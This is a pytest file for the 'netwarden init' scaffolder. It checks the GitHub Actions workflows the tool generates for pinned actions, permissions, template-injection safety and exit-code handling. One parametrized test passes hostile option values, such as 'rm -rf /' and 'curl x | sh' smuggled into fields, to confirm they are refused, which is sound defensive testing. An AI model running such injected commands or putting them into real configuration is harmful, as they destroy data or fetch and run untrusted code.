"""The files `netwarden init` writes (pure): workflows, waivers, accounts example."""

from __future__ import annotations

import os
import re
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from scanner.errors import InputError
from scanner.scaffold.files import NIGHTLY, REVIEW, InitOptions, scaffold


def _workflow(text: str) -> dict[Any, Any]:
    data = yaml.safe_load(text)
    # PyYAML reads the key `on` as True (YAML 1.1); GitHub reads it as "on".
    data["on"] = data.pop(True)
    return data


def _steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return list(job["steps"])


def _uses(data: dict[str, Any]) -> list[str]:
    return [s["uses"] for job in data["jobs"].values() for s in job["steps"] if "uses" in s]


def test_nightly_runs_on_a_schedule_with_oidc_shards_merge_and_upload() -> None:
    files = scaffold(InitOptions(shards=3, schedule="5 2 * * 1-5", fail_on="medium"))
    data = _workflow(files[NIGHTLY])
    assert data["on"]["schedule"] == [{"cron": "5 2 * * 1-5"}]
    assert "workflow_dispatch" in data["on"]
    assert data["permissions"] == {}
    scan, merge = data["jobs"]["scan"], data["jobs"]["merge"]
    assert scan["strategy"]["matrix"]["shard"] == [1, 2, 3]
    assert scan["strategy"]["fail-fast"] is False
    assert scan["permissions"] == {"contents": "read", "id-token": "write"}
    aws = next(s for s in _steps(scan) if s.get("uses", "").startswith("aws-actions/"))
    assert aws["with"]["role-to-assume"] == "${{ vars.NETWARDEN_ROLE_ARN }}"
    run = next(s for s in _steps(scan) if s.get("id") == "scan")["run"]
    assert '--shard "$SHARD/3"' in run and '--fail-on "medium"' in run
    assert merge["needs"] == "scan"
    assert "id-token" not in merge["permissions"]
    upload = next(s for s in _steps(merge) if "upload-sarif" in s.get("uses", ""))
    assert upload["with"] == {"sarif_file": "reports/netwarden.sarif", "category": "netwarden"}
    merge_run = next(s for s in _steps(merge) if s.get("id") == "merge")["run"]
    assert '--category "netwarden"' in merge_run and "report merge" in merge_run
    names = [s.get("name", s.get("uses", "")) for s in _steps(merge)]
    # The SARIF and the reports are uploaded before the job fails on findings.
    assert names.index("Fail on findings") == len(names) - 1


def test_review_runs_on_baseline_and_policy_changes_without_aws() -> None:
    data = _workflow(scaffold(InitOptions())[REVIEW])
    assert set(data["on"]["pull_request"]["paths"]) >= {"baselines/**", "policies/**"}
    job = data["jobs"]["review"]
    assert job["permissions"] == {"contents": "read", "security-events": "write"}
    assert not any("aws-actions" in u for u in _uses(data))
    run = next(s for s in _steps(job) if s.get("id") == "review")["run"]
    assert "netwarden review --base" in run
    upload = next(s for s in _steps(job) if "upload-sarif" in s.get("uses", ""))
    assert upload["with"]["category"] == "netwarden-review"
    assert any("GITHUB_STEP_SUMMARY" in s.get("run", "") for s in _steps(job))
    checkout = next(s for s in _steps(job) if s.get("uses", "").startswith("actions/checkout"))
    assert checkout["with"]["fetch-depth"] == 0


def test_every_action_is_pinned_to_a_commit() -> None:
    files = scaffold(InitOptions())
    for path in (NIGHTLY, REVIEW):
        uses = _uses(_workflow(files[path]))
        assert uses
        for use in uses:
            assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", use), use


def test_expressions_never_reach_a_shell_script_directly() -> None:
    # Template injection: `${{ }}` inside `run:` is expanded before the shell parses it.
    files = scaffold(InitOptions())
    for path in (NIGHTLY, REVIEW):
        for job in _workflow(files[path])["jobs"].values():
            for step in job["steps"]:
                assert "${{" not in step.get("run", ""), (path, step)


@pytest.mark.parametrize(
    "options",
    [
        InitOptions(schedule='0 0 * * *"\n  evil: 1'),
        InitOptions(schedule="@daily"),
        InitOptions(aws_region="us-east-1; rm -rf /"),
        InitOptions(netwarden_spec='netwarden"; curl x | sh; "'),
        InitOptions(netwarden_spec="netwarden==1.0 --index-url http://x"),
        InitOptions(python="3.12\n"),
        InitOptions(category="a b"),
        InitOptions(shards=0),
        InitOptions(fail_on="severe"),
    ],
)
def test_hostile_options_are_refused(options: InitOptions) -> None:
    with pytest.raises(InputError):
        scaffold(options)


def test_waivers_file_is_in_the_contract_format_and_empty() -> None:
    text = scaffold(InitOptions())["waivers.yaml"]
    assert yaml.safe_load(text) == {"waivers": []}
    lines = text.splitlines()
    start = lines.index("# waivers:")
    example = "\n".join(line.removeprefix("# ") for line in lines[start:] if line.startswith("#"))
    [waiver] = yaml.safe_load(example)["waivers"]
    assert {"rule", "resource", "reason", "owner", "expires"} <= waiver.keys()


def test_accounts_example_is_an_accounts_file() -> None:
    data = yaml.safe_load(scaffold(InitOptions())["accounts.example.yaml"])
    assert all({"name", "role_arn"} <= a.keys() for a in data["accounts"])


def _step_script(path: str, job: str, step_id: str, **options: Any) -> str:
    data = _workflow(scaffold(InitOptions(**options))[path])
    return next(s for s in data["jobs"][job]["steps"] if s.get("id") == step_id)["run"]


@pytest.mark.slow  # runs each step's script in bash
@pytest.mark.parametrize(
    ("code", "step_fails"), [(0, False), (1, False), (3, False), (2, True), (4, True)]
)
@pytest.mark.parametrize(
    ("path", "job", "step_id"),
    [(NIGHTLY, "scan", "scan"), (NIGHTLY, "merge", "merge"), (REVIEW, "review", "review")],
)
def test_exit_code_handling_of_each_netwarden_step(
    tmp_path: Path, path: str, job: str, step_id: str, code: int, step_fails: bool
) -> None:
    """The step's own script, run by bash as GitHub runs it, with a stand-in `netwarden`:
    reports are kept for 0, 1 and 3 (the job fails later, after the upload); 2 and 4 stop."""
    fake = tmp_path / "bin" / "netwarden"
    fake.parent.mkdir()
    fake.write_text(f'#!/bin/sh\necho "$@" > "{tmp_path}/argv"\nexit {code}\n')
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    output = tmp_path / "github_output"
    env = {
        "PATH": f"{fake.parent}{os.pathsep}{os.environ['PATH']}",
        "GITHUB_OUTPUT": str(output),
        "SHARD": "2",
        "BASE_SHA": "0" * 40,
    }
    script = _step_script(path, job, step_id, shards=4)
    # GitHub runs `run:` with `bash -e {0}`.
    proc = subprocess.run(
        ["bash", "-e", "-c", script], cwd=tmp_path, env=env, capture_output=True, timeout=30
    )
    assert (proc.returncode != 0) is step_fails, proc.stderr
    if step_fails:
        assert proc.returncode == code
    assert output.read_text() == f"exit-code={code}\n"
    argv = (tmp_path / "argv").read_text()
    if step_id == "scan":
        assert "--shard 2/4" in argv and "--accounts" not in argv


def test_waivers_file_and_its_example_load_with_the_waiver_loader() -> None:
    from scanner.waivers.load import parse_waivers

    text = scaffold(InitOptions())["waivers.yaml"]
    assert parse_waivers(text, "waivers.yaml", {"NW-SG-005"}) == []
    lines = text.splitlines()
    start = lines.index("# waivers:")
    example = "\n".join(line.removeprefix("# ") for line in lines[start:] if line.startswith("#"))
    [waiver] = parse_waivers(example, "waivers.yaml", {"NW-SG-005"})
    assert waiver.owner == "netops@example.com"
